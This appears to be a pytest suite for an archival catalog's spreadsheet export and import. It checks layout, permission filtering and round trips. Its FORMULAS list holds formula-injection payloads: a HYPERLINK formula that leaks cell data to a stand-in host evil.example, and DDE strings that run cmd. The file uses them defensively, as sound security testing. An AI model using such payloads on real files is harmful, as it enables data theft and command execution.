"""Catalog export: the layout, tree order, visibility, and the round trip through the importer."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import load_workbook

from dangan.catalog.actions.configuration import do_create_fonds
from dangan.catalog.actions.exporting import EXPORT_COLUMNS, export_catalog
from dangan.catalog.actions.importing import import_catalog
from dangan.catalog.actions.units import do_create_unit
from dangan.catalog.models import ArchivalUnit, Fonds, Subject
from dangan.cli import main
from dangan.core.actors import CONSOLE
from dangan.core.models import AuditEntry

D = dt.date


@pytest.fixture
def tree(fonds, categories):
    """A series without a 档号 holding a file (案卷) of items, and loose items: every field and date precision."""
    ws = categories["WS"]
    series = do_create_unit(CONSOLE, fonds, {"title": "2016年文书档案", "level": "series", "notes": "按年度—机构分类"})
    folder = do_create_unit(
        CONSOLE,
        fonds,
        {
            "title": "贵州省扶贫开发办公室关于易地扶贫搬迁的文件材料",
            "level": "file",
            "reference_code": "Z109-WS·2016-Y-BGS-0100",
            "category": ws,
            "extent": "1卷",
            "physical_location": "3号库 12排 4列",
        },
        parent=series,
    )
    first = do_create_unit(
        CONSOLE,
        fonds,
        {
            "title": "关于做好易地扶贫搬迁工作的通知",
            "category": ws,
            "year": 2016,
            "retention": "Y",
            "organization": "BGS",
            "document_number": "黔扶办发〔2016〕12号",
            "responsible": "贵州省扶贫开发办公室",
            "date": D(2016, 3, 12),
            "date_precision": "day",
            "page_count": 4,
            "classification": "internal",
            "openness": "open",
            "remarks": "有批示",
            "notes": "原件",
        },
        parent=folder,
        subjects=["易地扶贫搬迁", "脱贫攻坚"],
    )
    do_create_unit(
        CONSOLE,
        fonds,
        {
            "title": "=关于产业扶贫项目验收的报告",  # must stay text in Excel, not become a formula
            "category": ws,
            "year": 2016,
            "retention": "Y",
            "organization": "BGS",
            "date": D(2016, 4, 1),
            "date_precision": "month",
            "page_count": 0,
            "classification": "secret",
            "openness": "controlled",
        },
        parent=folder,
    )
    do_create_unit(
        CONSOLE,
        fonds,
        {
            "title": "红军长征过黔东南的回忆材料",
            "category": ws,
            "year": 1935,
            "retention": "C",
            "date": D(1935, 1, 1),
            "date_precision": "year",
        },
        subjects=["红军", "长征"],
    )
    do_create_unit(CONSOLE, fonds, {"title": "待整理材料", "retention": "D10"})
    return {"series": series, "folder": folder, "first": first}


def snapshot(fonds: Fonds) -> dict:
    """Every unit of ``fonds`` by its path of titles, with every field the catalog describes."""

    def path(unit: ArchivalUnit) -> str:
        return f"{path(unit.parent)}/{unit.title}" if unit.parent else unit.title

    out = {}
    for unit in ArchivalUnit.objects.filter(fonds=fonds).select_related("category", "parent"):
        out[path(unit)] = {
            **{
                f: getattr(unit, f)
                for f in (
                    "level",
                    "position",
                    "depth",
                    "child_count",
                    "year",
                    "retention",
                    "organization",
                    "item_number",
                    "reference_code",
                    "document_number",
                    "responsible",
                    "date",
                    "date_precision",
                    "page_count",
                    "classification",
                    "openness",
                    "remarks",
                    "extent",
                    "physical_location",
                    "notes",
                )
            },
            "category": unit.category.code if unit.category else None,
            "subjects": sorted(unit.subjects.values_list("term", flat=True)),
        }
    fonds.refresh_from_db()
    out["(fonds)"] = (fonds.unit_count, fonds.top_level_count)
    return out


def read_xlsx(path):
    """The rows, padded to the header's width (empty cells at the end of a row are not written)."""
    rows = load_workbook(path, read_only=True).active.iter_rows(values_only=True)
    return [[*row, *[None] * (len(EXPORT_COLUMNS) - len(row))] for row in rows]


def test_the_layout_and_the_tree_order(tmp_path, fonds, tree):
    path = tmp_path / "目录.xlsx"
    assert export_catalog(CONSOLE, fonds, path) == 6
    rows = read_xlsx(path)
    assert rows[0] == EXPORT_COLUMNS
    assert EXPORT_COLUMNS[:9] == ["序号", "档号", "文号", "责任者", "题名", "日期", "密级", "页数", "备注"]
    column = {name: i for i, name in enumerate(EXPORT_COLUMNS)}
    titles = [row[column["题名"]] for row in rows[1:]]
    assert titles == [
        "2016年文书档案",
        "贵州省扶贫开发办公室关于易地扶贫搬迁的文件材料",
        "关于做好易地扶贫搬迁工作的通知",
        "'=关于产业扶贫项目验收的报告",  # guarded against formula injection (see below)
        "红军长征过黔东南的回忆材料",
        "待整理材料",
    ]
    first = dict(zip(EXPORT_COLUMNS, rows[3], strict=True))
    assert first == {
        "序号": 3,
        "档号": "Z109-WS·2016-Y-BGS-0101",  # after the 案卷 0100 in the same group
        "文号": "黔扶办发〔2016〕12号",
        "责任者": "贵州省扶贫开发办公室",
        "题名": "关于做好易地扶贫搬迁工作的通知",
        "日期": "20160312",
        "密级": "内部",
        "页数": 4,
        "备注": "有批示",
        "门类": "WS",
        "年度": 2016,
        "保管期限": "永久",
        "机构（问题）": "BGS",
        "件号": 101,
        "层级": "件",
        "上级档号": "Z109-WS·2016-Y-BGS-0100",
        "开放状态": "开放",
        "主题词": "易地扶贫搬迁；脱贫攻坚",
        "存放位置": None,
        "数量及单位": None,
        "附注": "原件",
        "上级序号": None,
    }
    folder = dict(zip(EXPORT_COLUMNS, rows[2], strict=True))
    assert (folder["层级"], folder["上级档号"], folder["上级序号"]) == ("案卷", None, 1)  # its series has no 档号
    dates = [row[column["日期"]] for row in rows[1:]]
    assert dates == [None, None, "20160312", "201604", "1935", None]
    entry = AuditEntry.objects.get(action="catalog.export")
    assert entry.data == {"file": "目录.xlsx", "format": "xlsx", "rows": 6, "scope": "fonds"}


def test_a_title_like_a_formula_stays_text(tmp_path, fonds, tree):
    path = tmp_path / "目录.xlsx"
    export_catalog(CONSOLE, fonds, path)
    sheet = load_workbook(path).active
    cell = next(c for c in sheet["E"] if c.value and "关于产业扶贫" in str(c.value))
    assert cell.data_type == "s" and cell.value == "'=关于产业扶贫项目验收的报告"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def formulas(fonds, categories):
    """Units whose every text field an attacker filled with spreadsheet formulas (a transferring agency's data)."""
    for n, text in enumerate(FORMULAS, start=1):
        do_create_unit(
            CONSOLE,
            fonds,
            {
                "title": text,
                "responsible": text,
                "document_number": text[:100],
                "remarks": text,
                "notes": text,
                "extent": text,
                "physical_location": text,
                "reference_code": f"Z109-WS·2016-Y-BGS-{n:04d}",
                "category": categories["WS"],
            },
            subjects=[f"=主题{n}", "扶贫"],  # 主题词 are split at spaces and "|": simple ones
        )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_cell_of_an_export_is_a_formula(tmp_path, fonds, formulas, suffix):
    from dangan.utilities.spreadsheets import is_formula_like

    path = tmp_path / f"目录{suffix}"
    assert export_catalog(CONSOLE, fonds, path) == len(FORMULAS)
    if suffix == ".csv":
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    else:
        rows = [[c for c in row] for row in load_workbook(path).active.iter_rows(values_only=True)]
        for row in load_workbook(path).active.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str) and cell]
    assert not [cell for cell in cells if is_formula_like(cell)]
    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS) * 8  # every text column of every row


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_exported_formula_imports_back_as_the_original_text(tmp_path, fonds, formulas, suffix):
    before = snapshot(fonds)
    path = tmp_path / f"目录{suffix}"
    count = export_catalog(CONSOLE, fonds, path)
    same = import_catalog(CONSOLE, path, fonds, dry_run=True)
    assert (same.status, same.unchanged) == ("checked", count), [e.line() for e in same.errors]
    fresh = do_create_fonds(CONSOLE, "Z110", "另一全宗")
    copy = tmp_path / f"副本{suffix}"
    text = path.read_bytes() if suffix == ".xlsx" else None
    if text is None:
        copy.write_text(path.read_text(encoding="utf-8-sig").replace("Z109", "Z110"), encoding="utf-8-sig")
    else:
        from openpyxl import load_workbook as load

        book = load(path)
        for row in book.active.iter_rows(min_row=2):
            if isinstance(row[1].value, str):
                row[1].value = row[1].value.replace("Z109", "Z110")
        book.save(copy)
    result = import_catalog(CONSOLE, copy, fresh)
    assert result.status == "done", [e.line() for e in result.errors]
    titles = sorted(ArchivalUnit.objects.filter(fonds=fresh).values_list("title", flat=True))
    assert titles == sorted(t.strip() for t in FORMULAS)
    unit = ArchivalUnit.objects.get(fonds=fresh, reference_code="Z110-WS·2016-Y-BGS-0001")
    assert unit.responsible == unit.remarks == unit.notes == FORMULAS[0]
    assert snapshot(fonds) == before


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_then_import_into_the_same_fonds_changes_nothing(tmp_path, fonds, tree, suffix):
    before = snapshot(fonds)
    path = tmp_path / f"目录{suffix}"
    count = export_catalog(CONSOLE, fonds, path)
    result = import_catalog(CONSOLE, path, fonds)
    assert (result.status, result.created, result.unchanged) == ("done", 0, count), [e.line() for e in result.errors]
    assert snapshot(fonds) == before


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_then_import_into_an_empty_fonds_recreates_every_unit(tmp_path, fonds, tree, suffix):
    before = snapshot(fonds)
    path = tmp_path / f"目录{suffix}"
    export_catalog(CONSOLE, fonds, path)
    # A fresh start: no units, no subject terms, a new fonds with the same code.
    for depth in (2, 1, 0):
        ArchivalUnit.objects.filter(depth=depth).delete()
    Subject.objects.all().delete()
    fonds.delete()
    fresh = do_create_fonds(CONSOLE, "Z109", "贵州省扶贫开发办公室")
    result = import_catalog(CONSOLE, path, fresh)
    assert (result.status, result.created) == ("done", 6), [e.line() for e in result.errors]
    assert snapshot(fresh) == before


def test_csv_export_opens_in_excel(tmp_path, fonds, tree):
    path = tmp_path / "目录.csv"
    export_catalog(CONSOLE, fonds, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == EXPORT_COLUMNS and rows[3][5] == "20160312" and rows[3][6] == "内部"


def test_only_what_the_reader_may_see(tmp_path, fonds, tree, junior_archivist, system_admin, security_auditor):
    path = tmp_path / "目录.xlsx"
    assert export_catalog(junior_archivist, fonds, path) == 4  # no 内部 or 秘密 item
    titles = [row[4] for row in read_xlsx(path)[1:]]
    assert "关于做好易地扶贫搬迁工作的通知" not in titles and "=关于产业扶贫项目验收的报告" not in titles
    assert export_catalog(system_admin, fonds, path) == 4
    with pytest.raises(PermissionDenied):
        export_catalog(security_auditor, fonds, path)


def test_a_child_of_a_hidden_parent_does_not_reveal_it(tmp_path, fonds, categories, junior_archivist):
    hidden = do_create_unit(
        CONSOLE,
        fonds,
        {"title": "秘密案卷", "level": "file", "classification": "secret", "reference_code": "Z109-WS·2016-Y-0009"},
    )
    do_create_unit(CONSOLE, fonds, {"title": "卷内公开件"}, parent=hidden)
    path = tmp_path / "目录.xlsx"
    assert export_catalog(junior_archivist, fonds, path) == 1
    row = dict(zip(EXPORT_COLUMNS, read_xlsx(path)[1], strict=True))
    assert row["题名"] == "卷内公开件" and row["上级档号"] is None and row["上级序号"] is None


def test_a_large_fonds_is_read_in_chunks(tmp_path, fonds, categories, django_assert_max_num_queries):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["题名", "门类", "年度", "保管期限", "主题词"])
    for n in range(2500):
        workbook.active.append([f"通知{n}", "WS", 2020, "D10", "扶贫"])
    workbook.save(tmp_path / "in.xlsx")
    assert import_catalog(CONSOLE, tmp_path / "in.xlsx", fonds).created == 2500
    calls = []
    with django_assert_max_num_queries(15):  # the skeleton, then 3 chunks of 1000 (units, subjects), the audit
        count = export_catalog(CONSOLE, fonds, tmp_path / "out.csv", progress=lambda d, t: calls.append((d, t)))
    assert count == 2500 and calls[-1] == (2500, 2500) and len(calls) == 3


def test_the_cli_exports(tmp_path, fonds, tree, capsys):
    assert main(["catalog", "export", "--fonds", "Z109", "-o", str(tmp_path / "目录.xlsx")]) == 0
    assert "6 条" in capsys.readouterr().out and (tmp_path / "目录.xlsx").is_file()
    assert main(["catalog", "export", "--fonds", "Z109", "-o", str(tmp_path / "目录.pdf")]) == 2
